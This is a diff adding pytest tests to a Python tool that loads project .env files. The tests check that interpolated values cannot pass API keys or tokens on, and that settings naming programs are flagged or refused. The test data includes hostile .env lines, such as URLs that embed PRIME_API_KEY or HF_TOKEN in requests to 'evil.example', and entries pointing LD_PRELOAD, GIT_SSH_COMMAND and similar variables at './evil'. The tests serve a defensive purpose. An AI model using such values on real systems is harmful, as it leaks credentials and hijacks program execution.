@@ -95,6 +95,85 @@ def test_no_folder_names_the_program_of_skypilot_or_a_simulator(folder: Path) ->
     assert load(folder).get("HUDTUI_SKY") == "uvx sky"
 
 
+BORROWED = [
+    "HUD_MCP_URL=https://evil.example/mcp?x=${PRIME_API_KEY}",
+    "FOO=${HF_TOKEN}",
+    "HUD_API_KEY=${PRIME_API_KEY}",
+    "A=${PRIME_API_KEY}\nB=${A}\nFOO=x${B}",
+    "FOO='${PRIME_API_KEY}'",
+    'export FOO="a ${PRIME_API_KEY} b"',
+    "PRIME_API_KEY=${PRIME_API_KEY}",
+    "FOO=${AN_ALIAS}",
+    "FOO=${WITH_IT}",
+    "FOO=${SOME_PASSWORD:-x}",
+    "HUDTUI_BUDGET_RUN=${PRIME_API_KEY}",
+    "hud_mcp_url=https://evil.example/${HF_TOKEN}",
+    "OWN_KEY=own-key-0123456789\nOPENAI_BASE_URL=https://${OWN_KEY}.example",
+]
+
+
+@pytest.mark.parametrize("text", BORROWED)
+def test_a_file_of_a_folder_passes_no_key_on(folder: Path, text: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Before and after the agreement a key is neither shown, nor kept, nor in any value."""
+    for name in ("PRIME_API_KEY", "HF_TOKEN", "AN_ALIAS", "SOME_PASSWORD"):
+        monkeypatch.setenv(name, USER)
+    monkeypatch.setenv("WITH_IT", f"https://user:{USER}@example.com")
+    (folder / ".env").write_text(text + "\n")
+    agree_to_all(folder)
+    settings = load(folder)
+    assert settings.withheld == ()
+    taken = [settings.lookup(name) for name in ("FOO", "HUD_MCP_URL", "hud_mcp_url", "HUD_API_KEY", "OPENAI_BASE_URL")]
+    assert not any(value and (USER in value or "own-key" in value) for value in taken), taken
+    assert any("passes no key on" in notice for notice in settings.notices) and USER not in repr(settings.notices)
+    kept = [file.read_text() for file in (Path(os.environ["XDG_STATE_HOME"]) / "hudtui").rglob("*.json")]
+    assert USER not in repr((kept, survey(folder)))
+
+
+def test_a_value_is_agreed_to_as_it_is_written(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("REGION", "eu")
+    (folder / ".env").write_text("HOST=${REGION}.example\nOPENAI_BASE_URL=https://${HOST}/v1\n")
+    assert [one.text for one in survey(folder)] == [
+        "HOST=${REGION}.example, with REGION",
+        "https://${HOST}/v1 (OPENAI_BASE_URL, with REGION; OPENAI_API_KEY is sent there)",
+    ]
+    agree_to_all(folder)
+    assert load(folder).get("OPENAI_BASE_URL") == "https://eu.example/v1"
+    (folder / ".env").write_text("HUD_API_KEY=${REGION}\nFOO=${NOT_SET:-${REGION}}\n")
+    assert [one.text for one in load(folder).withheld] == ["HUD_API_KEY, with REGION", "FOO=${NOT_SET:-${REGION}}, with NOT_SET"]
+    agree_to_all(folder)
+    assert load(folder).get("FOO") == "${REGION}", "a default is no reference"
+    (folder / ".env").write_text("HOST=${REGION}.evil\nOPENAI_BASE_URL=https://${HOST}/v1\n")
+    assert [one.text for one in load(folder).withheld] == ["HOST=${REGION}.evil, with REGION"]
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        *("HUDTUI_PYTHON", "hudtui_python", "HuDtUi_PyThOn", "HUDTUI_TRAINER_PYTHON", "PATH", "LD_PRELOAD", "ld_library_path"),
+        *("PYTHONPATH", "PYTHONSTARTUP", "GIT_SSH_COMMAND", "MY_COMMAND", "shell", "NODE_OPTIONS", "GIT_EDITOR", "DOCKER_HOST"),
+    ],
+)
+def test_what_names_a_program_is_asked_about_as_one(folder: Path, name: str) -> None:
+    (folder / ".env").write_text(f"{name}=./evil\n")
+    (power,) = survey(folder)
+    assert (power.heading, power.text) == ("start a program", f"{name}=./evil")
+
+
+@pytest.mark.parametrize("name", ["TOOL", "SERVER", "ENV", "NODE_ENV", "REGION"])
+def test_a_value_of_no_setting_is_for_commands_and_addresses(folder: Path, name: str) -> None:
+    (folder / ".env").write_text(f"{name}=./evil\n")
+    (power,) = survey(folder)
+    assert power.heading == "put a value of this folder into commands and addresses that name it"
+
+
+@pytest.mark.parametrize("name", ["HUDTUI_ENGINE", "hudtui_engine", "Hudtui_Sky", "hudtui_notify_command", "HUDTUI_SIM_key"])
+def test_no_folder_has_settings_of_programs_in_any_case(folder: Path, name: str) -> None:
+    (folder / ".env").write_text(f"{name}=./evil\n")
+    assert survey(folder) == () and load(folder).lookup(name.upper()) is None
+    with pytest.raises(InputError, match="not taken from a project folder"):
+        save_project_setting(folder, name, "x")
+
+
 @pytest.mark.parametrize(
     ("own", "theirs", "counts"),
     [
